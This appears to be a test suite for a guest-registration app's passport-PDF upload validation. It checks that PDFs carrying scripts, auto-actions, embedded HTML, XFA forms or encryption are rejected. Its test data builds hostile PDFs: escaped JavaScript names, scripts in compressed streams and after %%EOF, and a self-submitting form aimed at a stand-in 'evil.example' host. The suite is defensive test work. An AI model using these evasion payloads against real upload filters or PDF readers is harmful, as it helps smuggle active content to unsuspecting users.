import zlib from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import { createGuestStay } from './factories';
import { guestFields, mediaFiles, sendForm, setupGuestsApp } from './factories.guests';
import { buildPdf, objectStream } from './factories.pdf';
import { fieldBody } from './api-client';

const { ctx, mediaDir, client, guestRows, URL } = setupGuestsApp();
const ACTIVE = 'Invalid format. PDFs with scripts, actions or attachments are not accepted.';

const upload = async (data: Buffer) => {
  const stay = await createGuestStay(ctx, { requireDocumentPhoto: true, guestNumber: 2 });
  const c = client();
  await c.login(stay.username, stay.password);
  const before = mediaFiles(mediaDir);
  const res = await sendForm(c, 'POST', URL, {
    ...guestFields({ document_type: 'passport' }),
    document_photo: { data, filename: 'passport.pdf', type: 'application/pdf' },
  });
  return { res, stay, c, before };
};

describe('PDF uploads: parsed, refused when active, stored as the parser rewrote them', () => {
  it.each([
    [
      'a name spelled with #xx escapes (/J#61vaScript)',
      buildPdf({
        catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>',
      }),
    ],
    [
      'a lower-case escape (/#6aavaScript is not a name, /J#61v#61Script is)',
      buildPdf({
        catalog: '/Names << /J#61v#61Script 4 0 R >>',
        extra: ['<< /Names [(a) << /S /#4a#61vaScript /#4a#53 (x) >>] >>'],
      }),
    ],
    [
      'JavaScript inside a compressed object stream',
      buildPdf({
        catalog: '/OpenAction 5 0 R',
        extra: [objectStream(5, ['<< /S /JavaScript /JS (app.alert(1)) >>'])],
      }),
    ],
    [
      'an OpenAction that opens a URI',
      buildPdf({
        catalog: '/OpenAction << /S /URI /URI (http://127.0.0.1:8010/x) >>',
      }),
    ],
    [
      'a form that submits itself',
      buildPdf({
        catalog: '/AcroForm << /Fields [4 0 R] >>',
        page: '/Annots [4 0 R]',
        extra: [
          '<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (http://evil.example) >> >>',
        ],
      }),
    ],
    ['an automatic page action', buildPdf({ page: '/AA << /O << /S /Named /N /Print >> >>' })],
    [
      'an embedded HTML file',
      buildPdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>',
        extra: [
          '<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>',
          {
            dict: '/Subtype /text#2Fhtml',
            data: Buffer.from('<html><script>alert(1)</script></html>'),
          },
        ],
      }),
    ],
    [
      'HTML in a compressed stream',
      buildPdf({
        page: '/Contents 4 0 R',
        extra: [
          { dict: '/Filter /FlateDecode', data: zlib.deflateSync('<script>alert(1)</script>') },
        ],
      }),
    ],
    ['HTML after %%EOF', buildPdf({ tail: '<!doctype html><script>alert(1)</script>' })],
    [
      'an XFA form',
      buildPdf({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', extra: ['<< >>'] }),
    ],
  ])('refuses %s, stores nothing', async (_label, pdf) => {
    const { res, stay, before } = await upload(pdf);
    expect(res.status).toBe(400);
    expect(res.body).toEqual(fieldBody({ document_photo: ['invalid_file', ACTIVE] }));
    expect(await guestRows(stay.profile.id)).toBe(0);
    expect(mediaFiles(mediaDir)).toEqual(before);
  });

  it('refuses an encrypted PDF (its strings and streams cannot be checked)', async () => {
    const { res } = await upload(
      Buffer.from(
        buildPdf()
          .toString('latin1')
          .replace(
            '/Root 1 0 R',
            '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>',
          ),
        'latin1',
      ),
    );
    expect(res.status).toBe(400);
    expect(res.body).toEqual(fieldBody({ document_photo: ['invalid_file', ACTIVE] }));
  });

  it('accepts a plain PDF and stores the parser-written copy', async () => {
    const original = buildPdf({
      catalog: '/OpenAction [3 0 R /Fit]',
      page: '/Contents 4 0 R',
      extra: [
        { dict: '/Filter /FlateDecode', data: zlib.deflateSync('BT /F1 12 Tf (Passaporto) Tj ET') },
      ],
    });
    const { res, c } = await upload(Buffer.concat([original, Buffer.from('trailing garbage')]));
    expect(res.status).toBe(201);
    const photo = await fetch(`${ctx.baseUrl}${res.body.document_photo}`, {
      headers: { authorization: `Token ${c.token}` },
    });
    expect(photo.headers.get('content-type')).toBe('application/pdf');
    const stored = Buffer.from(await photo.arrayBuffer());
    expect(stored.includes('trailing garbage')).toBe(false);
    expect((await PDFDocument.load(stored)).getPageCount()).toBe(1);
  });
});
